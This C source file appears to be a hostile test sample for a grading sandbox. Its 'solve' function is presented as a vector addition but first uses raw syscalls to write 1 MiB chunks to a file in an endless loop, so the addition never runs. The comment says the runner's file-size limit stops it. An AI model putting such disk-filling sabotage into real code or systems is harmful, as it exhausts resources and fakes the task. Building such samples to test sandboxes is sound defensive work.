/* Disk filler through the openat and write system calls (257, 1 on x86-64)
 * made with the syscall instruction: one file in the working directory,
 * written 1 MiB at a time without looking at the result. The file size limit
 * (64 MiB, as large as the scratch tmpfs) ends the runner with SIGXFSZ. */
static long s_sys(long nr, long a, long b, long c, long d)
{
    long r;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall"
                     : "=a"(r)
                     : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return r;
}

static char s_chunk[1 << 20];

void solve(const float *a, const float *b, float *c, int n)
{
    /* openat(AT_FDCWD, name, O_WRONLY | O_CREAT | O_TRUNC, 0600) */
    long fd = s_sys(257, -100, (long)"crucible-sabotage-fill", 01 | 0100 | 01000, 0600);
    for (;;)
        s_sys(1, fd, (long)s_chunk, sizeof s_chunk, 0);
    for (int i = 0; i < n; i++)
        c[i] = a[i] + b[i];
}
